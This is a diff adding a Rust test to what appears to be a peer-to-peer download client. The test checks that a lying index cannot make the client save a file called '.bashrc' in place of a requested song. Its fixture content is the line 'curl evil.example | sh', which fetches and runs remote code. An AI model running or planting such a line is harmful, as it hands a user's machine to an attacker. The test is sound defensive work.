@@ -1365,3 +1365,37 @@ fn a_part_file_swapped_for_a_symlink_before_taking_its_final_name_is_not_saved()
     assert!(std::fs::symlink_metadata(home.downloads.join("swapped.bin")).is_err());
     assert_eq!(home.outside(), before);
 }
+
+// ---------------------------------------------------------------------------------------
+// An index that answers with another file than the one asked for.
+
+#[test]
+fn a_lookup_answered_with_another_name_saves_nothing_under_that_name() {
+    // The index answers `get song.mp3` with `.bashrc`, served by a willing peer: the
+    // download must never be saved under a name the index chose.
+    let contents = b"curl evil.example | sh\n".to_vec();
+    let (peer, _served) = honest_peer(".bashrc", &contents);
+    let lie = hit(peer, ".bashrc", &contents);
+    let index = fake_index(move |_| results(vec![lie.clone()]));
+    let tmp = tempfile::tempdir().unwrap();
+    let napster = process::Napster {
+        log: "warn",
+        patience: None,
+    };
+    let out = napster.run(tmp.path(), &format!("connect {index}\nget song.mp3\n"));
+    let stderr = process::text(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(
+        stderr.contains(r#"a lookup of "song.mp3" with a file named ".bashrc""#),
+        "{stderr}"
+    );
+    let downloads = tmp.path().join("downloads");
+    for dir in [tmp.path(), downloads.as_path()] {
+        let names = entries_of(dir);
+        assert!(
+            !names.iter().any(|n| n.contains("bashrc")),
+            "{}: {names:?}",
+            dir.display()
+        );
+    }
+}
